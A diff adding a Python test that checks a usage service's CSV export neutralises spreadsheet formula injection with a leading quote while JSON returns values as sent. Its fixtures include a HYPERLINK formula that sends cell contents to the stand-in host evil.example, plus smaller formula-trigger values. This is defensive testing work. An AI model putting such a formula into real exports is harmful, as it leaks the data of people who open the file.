@@ -416,3 +416,34 @@ def test_a_csv_broken_off_by_a_database_failure_is_visibly_incomplete(gunicorn, 
     assert process.returncode == 18, (process.returncode, stderr)  # curl: transfer closed, data missing
     data = output.read_bytes()
     assert data.startswith(b"window_start,") and not data.endswith(b"\r\n")
+
+
+# Tenants a spreadsheet would run as formulas: the CSV gives them a leading "'", JSON as sent.
+FORMULA_TENANTS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "-1+2"]
+
+
+def test_csv_text_cells_that_a_spreadsheet_would_run_get_a_leading_quote(
+    gunicorn, token, client, auth, producer, worker, tmp_path
+):
+    rows = [(1, tenant, "@vm", "hour", "2.5") for tenant in FORMULA_TENANTS] + [(1, "acme", "vm", "+GB", "1")]
+    send(producer, worker, rows, False, "f")
+    params = {
+        "from": (DAY - timedelta(days=1)).isoformat(),
+        "to": (DAY + timedelta(days=2)).isoformat(),
+        "group_by": ["tenant", "product_sku", "use_unity"],
+    }
+    output = tmp_path / "usage.csv"
+    process = curl(gunicorn, token, {**params, "format": "csv"}, output)
+    _, stderr = process.communicate(timeout=60)
+    assert process.returncode == 0, stderr
+    cells = [
+        (row["tenant"], row["product_sku"], row["use_unity"], row["used_amount"], row["pulse_count"])
+        for row in csv.DictReader(io.StringIO(output.read_text()))
+    ]
+    assert cells == [
+        ("'-1+2", "'@vm", "hour", "2.500000", "1"),
+        ('\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'@vm", "hour", "2.500000", "1"),
+        ("acme", "vm", "'+GB", "1.000000", "1"),
+    ]
+    json_rows = client.get("/api/v1/usage", query_string=params, headers=auth).get_json()["rows"]
+    assert [row["tenant"] for row in json_rows] == ["-1+2", FORMULA_TENANTS[0], "acme"]
